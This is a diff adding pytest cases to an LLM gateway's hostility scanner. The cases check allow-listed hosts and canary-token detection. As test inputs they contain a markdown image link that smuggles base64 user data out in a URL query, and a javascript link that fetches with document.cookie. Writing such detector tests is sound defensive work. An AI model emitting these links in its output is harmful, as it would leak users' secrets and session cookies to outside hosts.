@@ -7,6 +7,7 @@ import pytest
 
 from curtilage.consent.models import HostileRules
 from curtilage.detect.hostile.assess import build_hostile
+from curtilage.detect.hostile.canary import CanaryKey
 from curtilage.detect.hostile.models import Action
 from curtilage.gateway.hostility import Hostility, HostilityScanner, is_approved
 from curtilage.gateway.wire.anthropic_messages import MESSAGES
@@ -154,3 +155,24 @@ def test_ordinary_work_is_left_alone() -> None:
         ("user", "Thanks! Now mail it to my colleague."),
     )
     assert look(document)[0] == Hostility({}, Action.ALLOW)
+
+
+def test_an_address_of_a_trusted_host_is_none_and_a_script_is_of_no_host() -> None:
+    leak = "![a](https://a.good.example/p.png?data=c2VjcmV0IG9mIHRoZSB1c2Vy)"
+    script = "[a](javascript:fetch('x'+document.cookie))"
+    for text, hosts, found in (
+        (leak, (), 1), (leak, ("good.example",), 0), (leak, ("evil.example",), 1),
+        (script, ("good.example", ""), 1),
+    ):  # fmt: skip
+        rules = HostileRules(allowed_hosts=frozenset(hosts))
+        looked, _ = look(chat(("tool", text)), rules, observe=True)
+        assert sum(looked.found.values()) == found, (text, hosts)
+
+
+def test_canaries_are_found_under_the_key_that_is_there_now() -> None:
+    key, other = CanaryKey(b"k" * 32), CanaryKey(b"o" * 32)
+    text = f"The note says {key.mint_named('notes')}."
+    for canaries, found in ((None, {}), (other, {}), (key, {"CANARY": 1}), (key, {"CANARY": 1})):
+        slots = collect(chat(("user", text)), CHAT)
+        looked = SCANNER.look(slots, USUAL, observe=False, key=KEY, canaries=canaries)
+        assert looked.found == found
